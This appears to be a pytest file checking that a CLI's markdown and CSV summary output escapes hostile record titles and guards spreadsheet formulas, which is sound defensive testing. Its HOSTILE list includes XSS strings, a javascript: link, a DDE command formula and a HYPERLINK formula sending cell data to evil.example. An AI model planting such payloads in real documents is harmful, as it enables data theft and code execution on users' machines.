"""`summary --format markdown` and `--format csv` with hostile titles: text stays text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from generator.base.csvsafe import formula_safe

from conftest import run_cli

HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "[click](javascript:alert(1)) {: onclick=x} a | b",
]


def _record(title: str, gain: float) -> str:
    return (
        f"title: {json.dumps(title)}\n"
        "tier: 1\n"
        "status: in-progress\n"
        "hypothesis: Hostile title.\n"
        "results:\n"
        "  - label: c8\n"
        "    concurrency: 8\n"
        f"    metrics: {{output_throughput: {100 + gain}}}\n"
        "    baseline: {output_throughput: 100}\n"
    )


@pytest.fixture
def hostile(minimal: Path) -> Path:
    for i, title in enumerate(HOSTILE, 1):
        # Record 1 loses 2.8%: a negative number that must stay a number in the CSV.
        (minimal / "improvements" / f"{i:02d}-hostile-{i}.yaml").write_text(_record(title, -2.8 if i == 1 else i))
    assert run_cli("check", "--root", str(minimal)).returncode == 0
    return minimal


def test_markdown_cells_hold_no_live_html_and_one_row_each(hostile: Path) -> None:
    r = run_cli("summary", "--root", str(hostile), "--format", "markdown")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert len(lines) == 2 + len(HOSTILE)
    assert "<script>" not in r.stdout and "&lt;script&gt;alert(1)&lt;/script&gt;" in r.stdout
    assert "[click](javascript:" not in r.stdout and "&#91;click&#93;" in r.stdout
    assert "{: onclick" not in r.stdout
    columns = lines[0].count("|")
    assert all(line.count("|") == columns for line in lines), "a pipe in a title split a row"


def test_csv_text_cells_never_start_a_formula(hostile: Path) -> None:
    r = run_cli("summary", "--root", str(hostile), "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    titles = {row["slug"]: row["title"] for row in rows}
    for i, title in enumerate(HOSTILE, 1):
        shown = titles[f"hostile-{i}"]
        assert shown == formula_safe(title)
        assert not shown.startswith(("=", "+", "-", "@", "\t", "\r"))
    loss = next(row for row in rows if row["slug"] == "hostile-1")
    assert loss["primary_change_percent"] == "-2.8"  # a number in a numeric column stays a number


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2.8", "'-2.8"),  # as text (a title), it is guarded like any other
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_formula_safe(text: str, safe: str) -> None:
    assert formula_safe(text) == safe
